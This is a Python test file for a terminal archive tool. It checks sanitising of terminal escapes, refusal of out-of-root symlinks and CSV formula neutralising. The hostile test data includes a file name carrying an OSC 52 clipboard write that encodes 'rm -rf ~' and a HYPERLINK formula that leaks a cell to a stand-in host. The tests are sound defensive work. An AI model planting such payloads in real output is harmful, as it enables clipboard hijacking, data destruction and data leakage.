"""Issue 9, security: hostile names and links never reach the terminal or leave the roots.

The file name below carries an OSC 0 (set the terminal title) and an OSC 52 (write the
clipboard) escape: shown raw, the terminal would obey them.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from conftest import SAMPLES, settled
from typer.testing import CliRunner

from tuiarchive.app.article import ArticleView
from tuiarchive.app.main import ArchiveApp
from tuiarchive.cli import app as cli
from tuiarchive.indexer import update_index
from tuiarchive.text import display

HOSTILE_NAME = "p\x1b]0;PWNED\x1b\\\x1b]52;c;cm0gLXJmIH4=\x1b\\.txt"
ARTICLE = SAMPLES / "2025-01-08-dresk-council-approves-olst-bridge.txt"


def _escapes(text: str) -> list[str]:
    """What a terminal would obey: ESC, BEL, C1 controls, and the payloads' tell-tales."""
    found = [ch for ch in text if ch in "\x1b\x07" or "\x80" <= ch <= "\x9f"]
    return found + [word for word in ("]0;", "]52;") if word in text]


def _hostile_archive(tmp_path: Path) -> tuple[Path, Path]:
    folder = tmp_path / "x"
    folder.mkdir()
    target = folder / HOSTILE_NAME
    shutil.copy(ARTICLE, target)
    index = tmp_path / "ix"
    report = update_index(index, [folder], workers=1)
    assert report.added == 1
    return target, index


def test_the_sanitiser_removes_osc_and_keeps_the_name_readable() -> None:
    shown = display(HOSTILE_NAME)
    assert not _escapes(shown)
    assert shown.startswith("p") and shown.endswith(".txt")


async def test_the_browser_shows_a_hostile_path_without_its_escapes(tmp_path: Path) -> None:
    target, index = _hostile_archive(tmp_path)
    app = ArchiveApp(index)
    async with app.run_test(size=(160, 45)) as pilot:
        await settled(pilot)
        ref = app.archive.find(str(target))
        app.open_article(ref.id)
        await settled(pilot)  # the article and its pane are shown
        view = app.query_one(ArticleView)
        assert view.article is not None and view.article.path == str(target)
        # what the terminal receives: the screen rendered to the bytes the driver writes
        raw = app.screen._compositor.render_update(full=True).render_segments(app.console)
        assert "\x1b]" not in raw and "\x07" not in raw and "]52;" not in raw and "PWNED" not in raw
        source = "".join(str(w.render()) for w in view.query(".source"))
        assert source.endswith(".txt") and "p" in source
        assert not _escapes(source), source
        assert not _escapes(str(app.sub_title))


def test_the_cli_shows_a_hostile_path_without_its_escapes(tmp_path: Path) -> None:
    target, index = _hostile_archive(tmp_path)
    runner = CliRunner()
    outputs = []
    for args in (
        ["show", str(target), "--index", str(index)],
        ["parse", str(target)],
        ["stats", "--index", str(index)],
        ["search", "bridge", "--index", str(index)],
        ["index", "--index", str(index)],
    ):
        result = runner.invoke(cli, args, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
    # a failure line names the file too
    (target.parent / ("q" + HOSTILE_NAME)).write_bytes(b"\x00\x01 not text")
    result = runner.invoke(cli, ["index", "--index", str(index)], catch_exceptions=False)
    assert result.exit_code == 1 and "failed" in result.output
    outputs.append(result.output)
    for output in outputs:
        assert not _escapes(output), output


def test_links_out_of_the_roots_are_not_followed_unless_asked(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    shutil.copy(ARTICLE, secret)  # readable, and an article: only the link rule keeps it out
    (outside / "deep").mkdir()
    shutil.copy(SAMPLES / "2025-01-13-bank-of-valmora-holds-rate-as-inflation-cools.txt", outside / "deep" / "b.txt")
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").symlink_to(secret)
    (folder / "elsewhere").symlink_to(outside / "deep")
    inside = folder / "real.txt"
    shutil.copy(SAMPLES / "2025-01-17-kettia-reopens-vellin-pass-border-crossing.txt", inside)
    (folder / "same.txt").symlink_to(inside)  # a link that stays inside is followed
    index = tmp_path / "ix"
    runner = CliRunner()
    result = runner.invoke(cli, ["index", str(folder), "--index", str(index)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "2 added" in result.output and "not followed" in result.output
    stats = runner.invoke(cli, ["stats", "--index", str(index)], catch_exceptions=False).output
    assert "not followed (2 skipped)" in stats
    result = runner.invoke(cli, ["index", "--follow-links", "--index", str(index)], catch_exceptions=False)
    assert result.exit_code == 0 and "2 added" in result.output, result.output
    stats = runner.invoke(cli, ["stats", "--index", str(index)], catch_exceptions=False).output
    assert "are followed" in stats


def test_a_csv_export_never_writes_a_cell_a_spreadsheet_takes_for_a_formula(tmp_path: Path) -> None:
    """Review s33 U14 (CSV injection): a saved page's headline is anyone's text; a cell that starts
    with = + - @ is a formula in a spreadsheet, so it is written with a leading apostrophe.
    The page is made up here (the sample's text under a headline of our own)."""
    import csv
    import io

    folder = tmp_path / "x"
    folder.mkdir()
    body = ARTICLE.read_text(encoding="utf-8").split("\n", 2)[2]
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click") made-up headline'
    (folder / "formula.txt").write_text(f"{formula}\n{body}", encoding="utf-8")
    (folder / "minus.txt").write_text(f"-5 degrees and falling in a made-up cold snap\n{body}", encoding="utf-8")
    update_index(tmp_path / "ix", [folder], workers=1)
    result = CliRunner().invoke(cli, ["search", "bridge", "-f", "csv", "--index", str(tmp_path / "ix")])
    assert result.exit_code == 0, result.output
    titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(result.stdout)))
    assert titles == ["'-5 degrees and falling in a made-up cold snap", "'" + formula]
    as_json = CliRunner().invoke(cli, ["search", "bridge", "--json", "--index", str(tmp_path / "ix")])
    assert formula in [h["title"] for h in json.loads(as_json.stdout)["hits"]]  # JSON is data: as written
